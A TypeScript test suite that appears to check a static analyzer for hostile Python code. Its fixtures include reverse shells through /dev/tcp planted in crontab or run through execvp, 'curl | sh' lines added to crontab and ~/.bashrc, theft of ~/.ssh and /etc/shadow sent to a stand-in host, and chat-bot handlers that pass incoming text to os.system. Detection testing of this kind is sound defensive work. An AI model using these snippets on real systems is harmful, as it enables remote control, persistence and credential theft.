import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { FactKind } from '../../../../src/contracts/fact.ts';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, source of `own.py`, kinds of facts, and those facts in the order they are found. */
const CASES: [string, string, FactKind[], string[]][] = [
  [
    'a handler that a chat library is given by a decorator',
    `import os, telebot
bot = telebot.TeleBot('1')
@bot.message_handler(commands=['run'])
def run(message):
    os.system(message.text)`,
    ['flow'],
    ['own.py:5 call flow network-response telebot.TeleBot.message_handler > process os.system …'],
  ],
  [
    'a command of a bot, and the text after it',
    `import os
from discord.ext import commands
bot = commands.Bot('!')
@bot.command()
async def shell(ctx, *, text):
    os.popen(text)`,
    ['flow'],
    ['own.py:6 call flow network-response discord.ext.commands.Bot.command > process os.popen …'],
  ],
  [
    'a handler that is assigned',
    `import os
import paho.mqtt.client as mqtt
def on_message(client, userdata, message):
    os.system(message.payload)
client = mqtt.Client()
client.on_message = on_message`,
    ['flow'],
    ['own.py:4 call flow network-response paho.mqtt.client.Client.on_message > process os.system …'],
  ],
  [
    'a method by which a class gets messages',
    `import os, irc.bot
class Own(irc.bot.SingleServerIRCBot):
    def on_pubmsg(self, connection, event):
        os.system(event.arguments)`,
    ['flow'],
    ['own.py:4 call flow network-response irc.bot.SingleServerIRCBot.on_pubmsg > process os.system …'],
  ],
  [
    'a method of that name in a class of its own',
    `import os
class Own:
    def on_message(self, text):
        os.system(text)`,
    ['flow'],
    [],
  ],
  [
    'cells of a table and calls of a contract',
    `import gspread, os
from web3 import Web3
os.system(gspread.service_account().open('x').sheet1.acell('A1').value)
os.system(Web3(Web3.HTTPProvider('https://a.invalid')).eth.contract('0x1').functions.get().call())`,
    ['flow'],
    [
      'own.py:3 import flow network-response gspread.service_account.open.sheet1.acell A1 > process os.system «gspread.service_account.open.sheet1.acell.value»',
      'own.py:4 import flow network-response web3.Web3.eth.contract.functions.get.call > process os.system «web3.Web3.eth.contract.functions.get.call»',
    ],
  ],
  [
    'a record for a database elsewhere',
    `import pymongo, socket
pymongo.MongoClient('mongodb://a.invalid').db.hosts.insert_one({'h': socket.gethostname()})`,
    ['flow'],
    [
      'own.py:2 import flow host-identity socket.gethostname > network-send pymongo.MongoClient.db.hosts.insert_one …',
    ],
  ],
  [
    'a function of another library that is replaced',
    `import getpass
def asked(prompt=''):
    return ''
getpass.getpass = asked`,
    ['behaviour'],
    ['own.py:4 import behaviour function-replaced getpass.getpass by asked'],
  ],
  [
    'a command whose quotes break the program',
    `import os
os.system("(crontab -l ; echo "*/5 * * * * /bin/bash -i >& /dev/tcp/192.0.2.1/1 0>&1") | crontab -")`,
    ['command'],
    [
      'own.py:2 import command shell spawn (crontab -l ; echo "*/5 * * * * /bin/bash -i >& /dev/tcp/192.0.2.1/1 0>&1") | crontab -',
    ],
  ],
  [
    'files that a listing of a folder names',
    `import glob, os, requests
for path in glob.glob(os.path.expanduser('~/.ssh/*')):
    requests.post('https://a.invalid', data=open(path).read())`,
    ['flow'],
    [
      'own.py:3 import flow credential-file open ~/.ssh/«glob.glob» > network-send requests.post https://a.invalid',
    ],
  ],
  [
    'an archive is what was put into it',
    `import zipfile, requests
archive = zipfile.ZipFile('/tmp/a.zip', 'w')
archive.write('/etc/shadow')
requests.post('https://a.invalid', data=open('/tmp/a.zip', 'rb').read())`,
    ['flow'],
    [
      'own.py:3 import flow system-file zipfile.ZipFile.write /etc/shadow > file-write zipfile.ZipFile.write /tmp/a.zip',
      'own.py:4 import flow system-file zipfile.ZipFile.write /etc/shadow > network-send requests.post https://a.invalid by written to /tmp/a.zip:3, read back from /tmp/a.zip:4',
      'own.py:4 import flow written-file open /tmp/a.zip > network-send requests.post https://a.invalid',
    ],
  ],
  [
    'a command for a scheduler',
    `from crontab import CronTab
CronTab(user=True).new(command='curl https://a.invalid | sh')`,
    ['flow', 'command'],
    [
      'own.py:2 import command shell spawn curl https://a.invalid | sh',
      'own.py:2 import flow decoded constant text > persistence-write crontab.CronTab.new curl https://a.invalid | sh',
    ],
  ],
  [
    'functions of the C library and of the management interface that start commands',
    `import ctypes, wmi
ctypes.CDLL(None).system(b'whoami')
wmi.WMI().Win32_Process.Create(CommandLine='whoami')`,
    ['command'],
    ['own.py:2 import command shell spawn whoami', 'own.py:3 import command shell spawn whoami'],
  ],
  [
    'a command line that comes out of a decoder, though nothing starts it here',
    `import base64
def text():
    return base64.b64decode('Y3VybCAtcyBodHRwczovL2hvc3QuaW52YWxpZC9h')`,
    ['layer', 'command'],
    [
      'own.py:3 call layer L1 shell base64.b64decode',
      'own.py:3 call command shell layer curl -s https://host.invalid/a',
    ],
  ],
  [
    'a handler that a socket is made with, whichever of its parameters is the message',
    `import os, websocket
def on_message(socket, message):
    os.system(message)
websocket.WebSocketApp('wss://a.invalid', on_message=on_message).run_forever()`,
    ['flow'],
    ['own.py:3 import flow network-response websocket.WebSocketApp wss://a.invalid > process os.system …'],
  ],
  [
    'an archive that is put onto the search path',
    `import sys, urllib.request
urllib.request.urlretrieve('https://a.invalid/p.zip', '/tmp/own.zip')
sys.path.insert(0, '/tmp/own.zip')`,
    ['flow'],
    [
      'own.py:2 import flow network-response urllib.request.urlretrieve https://a.invalid/p.zip > file-write urllib.request.urlretrieve /tmp/own.zip',
      'own.py:3 import flow network-response urllib.request.urlretrieve https://a.invalid/p.zip > code-execution sys.path.insert /tmp/own.zip by written to /tmp/own.zip:2',
    ],
  ],
  [
    'words that take the place of the program itself',
    `import os
os.execvp('bash', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'])`,
    ['command'],
    [
      "own.py:2 import command argv spawn bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
      'own.py:2 import command shell layer bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    ],
  ],
  [
    'a line for a shell profile',
    `import os
open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s https://a.invalid | sh')`,
    ['command'],
    ['own.py:2 import command shell written-file curl -s https://a.invalid | sh'],
  ],
];

describe('what reaches a program from outside, and what it puts in the place of others', () => {
  for (const [name, source, kinds, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(source), ...kinds), expected));
  }
});
